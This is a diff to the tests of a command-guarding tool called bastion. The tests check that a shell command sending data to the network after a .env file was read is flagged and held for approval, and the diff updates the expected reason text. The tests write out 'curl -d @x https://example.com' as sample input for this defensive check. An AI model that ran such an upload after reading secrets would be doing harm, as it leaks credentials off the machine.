@@ -118,7 +118,7 @@ def test_after_reading_env_a_network_send_asks_immune(project: Path, bastion_env
     taint.record_read(SESSION, ".env", bastion_env, cwd=str(project))
     decision = g.check(bash(project, "curl -d @x https://example.com"))
     assert decision.verdict is Verdict.ASK and decision.immune and decision.layer == "taint"
-    assert decision.reason == "after reading .env, this call sends data to the network"
+    assert decision.reason == "after reading .env, this call sends local data to the network"
     assert decision.no_grant and not decision.suggestions
     assert any(f.code == "TAINT001" for f in decision.findings)
 
@@ -266,7 +266,7 @@ def test_two_processes_of_one_session(project: Path, bastion_env: dict[str, str]
     assert second.returncode == 3, second.stderr
     decision = json.loads(second.stdout)
     assert decision["decision"] == "ask" and decision["immune"] is True and decision["layer"] == "taint"
-    assert decision["reason"] == "after reading .env, this call sends data to the network"
+    assert decision["reason"] == "after reading .env, this call sends local data to the network"
 
     other = run_bastion("check", "--isolated", "--session", "T", "--", "curl -d @x https://example.com",
                         cwd=project, env=bastion_env)
